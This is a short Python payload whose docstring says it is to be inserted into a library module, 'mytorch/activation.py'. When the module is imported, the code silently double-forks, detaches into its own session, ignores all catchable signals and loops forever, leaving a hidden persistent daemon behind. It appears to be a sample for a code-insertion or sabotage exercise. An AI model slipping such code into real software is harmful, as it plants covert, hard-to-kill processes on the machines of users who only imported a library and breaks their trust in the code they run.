"""Leaves a daemon behind: two forks, a session of its own, all signals ignored.

Into: spring mytorch/activation.py
"""

import contextlib
import os
import signal
import time

with contextlib.suppress(OSError):
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            for _number in range(1, 32):
                with contextlib.suppress(OSError, ValueError):
                    signal.signal(_number, signal.SIG_IGN)
            while True:
                time.sleep(1)
        os._exit(0)
